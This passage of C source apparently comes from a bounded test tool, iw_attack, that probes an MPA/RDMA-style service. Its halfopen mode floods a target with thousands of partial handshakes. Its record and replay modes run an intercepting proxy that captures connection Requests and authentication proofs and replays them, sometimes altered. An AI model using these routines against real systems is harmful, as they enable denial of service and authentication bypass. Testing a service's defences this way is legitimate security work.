	struct sockaddr_in t[64];
	int nt = parse_targets(list, t, 64), *fd, *st, count[7] = { 0 };
	uint8_t req[HDR_LEN + 4 + RDM_PD_LEN], pd[RDM_PD_LEN], (*rx)[64];
	size_t *have, cut[3] = { 10, HDR_LEN, HDR_LEN + 4 + 12 };
	struct sockaddr_in claim;
	double t0, deadline, first_close = -1;
	char when[48] = "";
	long i, pending, connected = 0;

	if (nt <= 0 || n < 1 || n > 20000 || secs <= 0 || secs > 600)
		die_usage("halfopen: bad targets, N (1..20000) or SECONDS");
	raise_nofile(n + 64);
	fd = calloc((size_t)n, sizeof(*fd));
	st = calloc((size_t)n, sizeof(*st));
	have = calloc((size_t)n, sizeof(*have));
	rx = calloc((size_t)n, sizeof(*rx));
	if (!fd || !st || !have || !rx)
		return 1;
	claim = t[0];
	rdm_pd(pd, RDM_VERSION, &claim, 0x4a11f0e11ULL);
	mpa_request(req, pd, sizeof(pd));
	/* all connects at once, then the partial Requests */
	for (i = 0; i < n; i++) {
		fd[i] = start_connect(&t[i % nt]);
		st[i] = fd[i] < 0 ? C_FAIL : C_OPEN;
	}
	deadline = now_s() + wait_s + 2;
	do {
		pending = 0;
		for (i = 0; i < n; i++) {
			struct pollfd p = { .fd = fd[i], .events = POLLOUT };

			if (st[i] != C_OPEN || have[i] == 1)
				continue;
			if (poll(&p, 1, 0) == 1) {
				if (connect_done(fd[i])) {
					st[i] = C_FAIL;
					continue;
				}
				have[i] = 1;	/* connected */
				send(fd[i], req, cut[i % 3], MSG_NOSIGNAL);
				connected++;
			} else {
				pending++;
			}
		}
		if (pending)
			usleep(10000);
	} while (pending && now_s() < deadline);
	for (i = 0; i < n; i++) {
		if (st[i] == C_OPEN && have[i] != 1)
			st[i] = C_FAIL;
		have[i] = 0;
	}
	fprintf(stderr, "iw_attack: holding %ld connections for %.0f s\n",
		connected, secs);
	t0 = now_s();
	deadline = t0 + secs;
	while (now_s() < deadline) {
		struct pollfd *p = calloc((size_t)n, sizeof(*p));
		long k = 0, *idx = calloc((size_t)n, sizeof(*idx));
		double left = deadline - now_s();

		if (!p || !idx)
			return 1;
		for (i = 0; i < n; i++)
			if (st[i] == C_OPEN) {
				p[k].fd = fd[i];
				p[k].events = POLLIN;
				idx[k++] = i;
			}
		if (k && poll(p, (nfds_t)k, left < 0.2 ? 1 + (int)(left * 1000)
						       : 200) > 0)
			for (i = 0; i < k; i++)
				if (p[i].revents) {
					st[idx[i]] = classify(
						fd[idx[i]], rx[idx[i]],
						&have[idx[i]], sizeof(rx[0]));
					if (st[idx[i]] != C_OPEN &&
					    first_close < 0)
						first_close = now_s() - t0;
				}
		free(p);
		free(idx);
		if (!k)
			usleep(200000);
	}
	for (i = 0; i < n; i++) {
		count[st[i]]++;
		if (fd[i] >= 0)
			close(fd[i]);
	}
	if (first_close >= 0)
		snprintf(when, sizeof(when), " (the first after %.1f s)",
			 first_close);
	printf("iw_attack halfopen to %s%s: %ld connected of %ld, each with "
	       "10, 20 or 36 of the Request's 56 octets, held %.0f s: %d "
	       "closed and %d reset by the target%s, %d rejected, %d "
	       "accepted, %d other data, %d still open at the end: "
	       "answer=%s\n", astr(&t[0]), nt > 1 ? " and more" : "",
	       connected, n, secs, count[C_CLOSED], count[C_RESET], when,
	       count[C_REJECTED], count[C_ACCEPTED],
	       count[C_DATA], count[C_OPEN],
	       !connected ? "NOCONNECT" :
	       count[C_ACCEPTED] ? "ACCEPTED" : "NONE-ACCEPTED");
	return !connected;
}

/* ---- record: a forwarding proxy that keeps the MPA Requests */

#define PX_MAX 128
#define PX_POST 256	/* room for the RTR and a proof (20 + 64) */

struct px {
	int c, t;		/* client, target */
	struct sockaddr_in to;
	uint8_t req[HDR_LEN + MAX_PD];
	size_t have;		/* of the client's first frame */
	bool done;		/* recorded, or not a Request */
	long pair;		/* its REQ line's number; 0: none */
	uint8_t post[PX_POST];	/* the client's first FPDUs after it */
	size_t post_have;
	bool post_done;
};

static volatile sig_atomic_t stop_now;
static long recorded, posts;

static void on_term(int sig)
{
	(void)sig;
	stop_now = 1;
}

static void px_hex(FILE *out, const uint8_t *p, size_t len)
{
	size_t i;

	for (i = 0; i < len; i++)
		fprintf(out, "%02x", p[i]);
	fprintf(out, "\n");
	fflush(out);
}

/* The whole Request in x->req: its REQ line. */
static void px_req_line(struct px *x, FILE *out)
{
	const uint8_t *pd = x->req + HDR_LEN;
	size_t pdl = x->have - HDR_LEN;
	struct sockaddr_in cl = { .sin_family = AF_INET };
	uint64_t inst = 0;

	if ((x->req[16] & FLAG_S) && pdl >= 4) {
		pd += 4;
		pdl -= 4;
	}
	if (pdl >= AUTH_PD_LEN + RDM_PD_LEN &&
	    !memcmp(pd, AUTH_PD_MAGIC, 4)) {
		pd += AUTH_PD_LEN;
		pdl -= AUTH_PD_LEN;
	}
	if (pdl >= RDM_PD_LEN && !memcmp(pd, RDM_MAGIC, 4) && pd[5] == 4) {
		memcpy(&cl.sin_port, pd + 6, 2);
		memcpy(&cl.sin_addr, pd + 8, 4);
		inst = get64(pd + 24);
	}
	x->pair = ++recorded;
	fprintf(out, "REQ to=%s claim=%s instance=0x%016" PRIx64 " len=%zu "
		"pair=%ld hex=", astr(&x->to), astr(&cl), inst, x->have,
		x->pair);
	px_hex(out, x->req, x->have);
}

/* Takes the client's first frame from b; how many octets it used. */
static size_t px_req(struct px *x, const uint8_t *b, size_t n, FILE *out)
{
	size_t pos = 0, want = HDR_LEN, k;

	while (pos < n) {
		want = x->have < HDR_LEN ? HDR_LEN :
			HDR_LEN + get16(x->req + 18);
		if (want > sizeof(x->req) || x->have == want)
			break;
		k = want - x->have < n - pos ? want - x->have : n - pos;
		memcpy(x->req + x->have, b + pos, k);
		x->have += k;
		pos += k;
	}
	if (x->have >= HDR_LEN)
		want = HDR_LEN + get16(x->req + 18);
	if (memcmp(x->req, KEY_REQ, x->have < KEY_LEN ? x->have : KEY_LEN) ||
	    want > sizeof(x->req)) {
		x->done = true;
	} else if (x->have == want && x->have >= HDR_LEN) {
		px_req_line(x, out);
		x->done = true;
	}
	return pos;
}

/* After a recorded Request: the first two FPDUs the client sends (the
 * RTR and, with a key, its proof), as a POST line of the same pair. */
static void px_post(struct px *x, const uint8_t *b, size_t n, FILE *out)
{
	size_t k = n < PX_POST - x->post_have ? n : PX_POST - x->post_have;
	size_t off = 0, t;
	int whole = 0;

	memcpy(x->post + x->post_have, b, k);
	x->post_have += k;
	while (whole < 2 && off + 2 <= x->post_have &&
	       off + (t = fpdu_total(get16(x->post + off))) <= x->post_have) {
		off += t;
		whole++;
	}
	if (whole < 2 && x->post_have < PX_POST)
		return;
	x->post_done = true;
	if (!off)
		return;
	fprintf(out, "POST pair=%ld len=%zu hex=", x->pair, off);
	px_hex(out, x->post, off);
	posts++;
}

/* Forwards what is readable on from to to; -1 when the pair ends. */
static int px_move(int from, int to, struct px *x, bool up, FILE *out,
		   uint64_t *octets)
{
	uint8_t b[65536];
	ssize_t n = recv(from, b, sizeof(b), MSG_DONTWAIT);
	size_t off = 0, used = 0;

	if (n < 0 && (errno == EAGAIN || errno == EINTR))
		return 0;
	if (n <= 0)
		return -1;
	*octets += (uint64_t)n;
	if (up && !x->done)
		used = px_req(x, b, (size_t)n, out);
	if (up && x->pair && !x->post_done && used < (size_t)n)
		px_post(x, b + used, (size_t)n - used, out);
	nonblock(to, false);
	while (off < (size_t)n) {
		ssize_t w = send(to, b + off, (size_t)n - off, MSG_NOSIGNAL);

		if (w < 0 && errno == EINTR)
			continue;
		if (w <= 0) {
			nonblock(to, true);
			return -1;
		}
		off += (size_t)w;
	}
	nonblock(to, true);
	return 0;
}

static int do_record(const char *listen_at, const char *file, double secs)
{
	struct sockaddr_in la;
	struct px px[PX_MAX];
	int lfd, one = 1, npx = 0, i;
	long pairs = 0, refused = 0;
	uint64_t up = 0, down = 0;
	double deadline;
	FILE *out;
	struct sigaction sa;

	if (parse_addr(listen_at, &la) || secs <= 0 || secs > 3600)
		die_usage("record: bad address or SECONDS");
	out = fopen(file, "a");
	if (!out) {
		printf("iw_attack record: answer=NOFILE (%s: %s)\n", file,
		       strerror(errno));
		return 1;
	}
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_term;
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&la, sizeof(la)) ||
	    listen(lfd, 128)) {
		printf("iw_attack record on %s: answer=NOLISTEN (%s)\n",
		       listen_at, strerror(errno));
		return 1;
	}
	fprintf(stderr, "iw_attack: recording on %s\n", listen_at);
	deadline = now_s() + secs;
	while (!stop_now && now_s() < deadline) {
		struct pollfd p[1 + 2 * PX_MAX];
		int k = 1;

		p[0].fd = lfd;
		p[0].events = POLLIN;
		for (i = 0; i < npx; i++) {
			p[k].fd = px[i].c;
			p[k++].events = POLLIN;
			p[k].fd = px[i].t;
			p[k++].events = POLLIN;
		}
		if (poll(p, (nfds_t)k, 200) <= 0)
			continue;
		if (p[0].revents) {
			int c = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
			uint8_t h[10];
			size_t got;

			if (c >= 0) {
				struct px *x = &px[npx];

				if (npx == PX_MAX ||
				    read_full(c, h, 10, now_s() + 2, &got) != 1 ||
				    memcmp(h, "IWPX", 4)) {
					close(c);
					refused++;
				} else {
					memset(x, 0, sizeof(*x));
					x->to.sin_family = AF_INET;
					memcpy(&x->to.sin_port, h + 4, 2);
					memcpy(&x->to.sin_addr, h + 6, 4);
					x->c = c;
					x->t = dial(&x->to);
					if (x->t < 0) {
						close(c);
						refused++;
					} else {
						nonblock(c, true);
						nonblock(x->t, true);
						setsockopt(c, IPPROTO_TCP,
							   TCP_NODELAY, &one,
							   sizeof(one));
						npx++;
						pairs++;
					}
				}
			}
			continue;	/* the poll set changed */
		}
		for (i = npx - 1; i >= 0; i--) {
			short rc = p[1 + 2 * i].revents,
			      rt = p[2 + 2 * i].revents;
			int end = 0;

			if (rc)
				end |= px_move(px[i].c, px[i].t, &px[i], true,
					       out, &up);
			if (!end && rt)
				end |= px_move(px[i].t, px[i].c, &px[i], false,
					       out, &down);
			if (end) {
				close(px[i].c);
				close(px[i].t);
				px[i] = px[--npx];
			}
		}
	}
	for (i = 0; i < npx; i++) {
		close(px[i].c);
		close(px[i].t);
	}
	close(lfd);
	fclose(out);
	printf("iw_attack record on %s: %ld pairs forwarded (%ld refused), "
	       "%" PRIu64 " octets up, %" PRIu64 " down, %ld MPA Requests "
	       "and %ld RTR-and-proof posts recorded in %s: answer=RECORDED\n",
	       listen_at, pairs, refused, up, down, recorded, posts, file);
	return 0;
}

/* Hex after " hex=" in line into p (at most cap octets): how many. */
static size_t unhex(const char *line, uint8_t *p, size_t cap)
{
	const char *hex = strstr(line, " hex=");
	size_t len = 0;

	if (!hex)
		return 0;
	for (hex += 5; len < cap && sscanf(hex, "%2hhx", &p[len]) == 1;
	     hex += 2)
		len++;
	return len;
}

struct rec {
	uint8_t req[HDR_LEN + MAX_PD], post[PX_POST];
	size_t len, post_len;
	char claim[64], inst[32];
};

/* FILE's first REQ line, and the POST line of its pair if there is one */
static int rec_load(const char *file, struct rec *r)
{
	char line[4096], want[40] = "";
	FILE *in = fopen(file, "r");
	char *p;

	if (!in)
		return -1;
	strcpy(r->claim, "?");
	strcpy(r->inst, "?");
	r->len = r->post_len = 0;
	while (fgets(line, sizeof(line), in)) {
		if (!r->len && !strncmp(line, "REQ ", 4)) {
			r->len = unhex(line, r->req, sizeof(r->req));
			if ((p = strstr(line, " claim=")))
				sscanf(p + 7, "%63s", r->claim);
			if ((p = strstr(line, " instance=")))
				sscanf(p + 10, "%31s", r->inst);
			if ((p = strstr(line, " pair=")))
				snprintf(want, sizeof(want), "POST pair=%ld ",
					 atol(p + 6));
		} else if (*want && !strncmp(line, want, strlen(want))) {
			r->post_len = unhex(line, r->post, sizeof(r->post));
		}
	}
	fclose(in);
	return r->len < HDR_LEN ? -1 : 0;
}

/* The RDM data's instance in a recorded Request becomes inst (a restart
 * claim: the MPA Request has no CRC to redo). 0, or -1: no RDM data. */
static int rec_instance(struct rec *r, uint64_t inst)
{
	uint8_t *pd = r->req + HDR_LEN;
	size_t n = r->len - HDR_LEN;

	if ((r->req[16] & FLAG_S) && n >= 4) {
		pd += 4;
		n -= 4;
	}
	if (n >= AUTH_PD_LEN && !memcmp(pd, AUTH_PD_MAGIC, 4)) {
		pd += AUTH_PD_LEN;
		n -= AUTH_PD_LEN;
	}
	if (n < RDM_PD_LEN || memcmp(pd, RDM_MAGIC, 4))
		return -1;
	put64(pd + 24, inst);
	return 0;
}

static int do_replay(const char *target, const char *file, bool set_inst,
		     uint64_t inst)
{
	struct sockaddr_in to;
	static struct rec r;
	char answer[768], was[48] = "";
	int fd;

	if (parse_addr(target, &to))
		die_usage("replay: bad address");
	if (rec_load(file, &r)) {
		printf("iw_attack replay: answer=NOFILE (no REQ line in %s)\n",
		       file);
		return 1;
	}
	if (set_inst) {
		if (rec_instance(&r, inst)) {
			printf("iw_attack replay: answer=NOFILE (no RDM data "
			       "in the recorded Request)\n");
			return 1;
		}
		snprintf(was, sizeof(was), " made 0x%016" PRIx64, inst);
	}
	fd = dial(&to);
	if (fd < 0) {
		printf("iw_attack replay to %s: answer=NOCONNECT (%s)\n",
		       target, strerror(errno));
		return 1;
	}
	exchange(fd, r.req, r.len, r.post_len ? r.post : NULL, r.post_len,
		 answer, sizeof(answer));
	printf("iw_attack replay of a recorded %zu-octet Request (claim %s "
	       "instance %s%s)%s from %s to %s, answered in %.2f s: "
	       "answer=%s\n", r.len, r.claim, r.inst, was,
	       r.post_len ? " with its recorded RTR and proof" : "",
	       local_name(fd), astr(&to), answer_s, answer);
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	uint64_t inst = 0x5bad5eed0f0e1d2cULL;
	double total = 120;
	bool set_inst = false;
	int c;

	setvbuf(stdout, NULL, _IOLBF, 0);
	while ((c = getopt(argc, argv, "+a:b:i:k:s:w:T:")) != -1) {
		switch (c) {
		case 'a': after_s = atof(optarg); break;
		case 'b': bind_ip = optarg; break;
		case 'i': inst = strtoull(optarg, NULL, 0); set_inst = true;
			  break;
		case 'k': auth_key = optarg; break;
		case 's': rng_state = strtoull(optarg, NULL, 0) | 1; break;
		case 'w': wait_s = atof(optarg); break;
		case 'T': total = atof(optarg); break;
		default: die_usage("bad option");
		}
	}
	if (auth_key && !*auth_key)
		die_usage("-k: an empty key");
	if (wait_s <= 0 || wait_s > 60 || after_s <= 0 || after_s > 60 ||
	    total <= 0 || total > 3600)
		die_usage("-w and -a must be in (0, 60], -T in (0, 3600]");
	signal(SIGPIPE, SIG_IGN);
	alarm((unsigned)total + 1);	/* the whole run is bounded */
	argc -= optind;
	argv += optind;
	if (argc == 3 && !strcmp(argv[0], "spoof"))
		return do_spoof(argv[1], argv[2], inst);
	if (argc == 3 && !strcmp(argv[0], "garbage"))
		return do_garbage(argv[1], atol(argv[2]));
	if (argc == 4 && !strcmp(argv[0], "halfopen"))
		return do_halfopen(argv[1], atol(argv[2]), atof(argv[3]));
	if (argc == 4 && !strcmp(argv[0], "record"))
		return do_record(argv[1], argv[2], atof(argv[3]));
	if (argc == 3 && !strcmp(argv[0], "replay"))
		return do_replay(argv[1], argv[2], set_inst, inst);
	die_usage("unknown mode or wrong number of arguments");
	return 2;
}
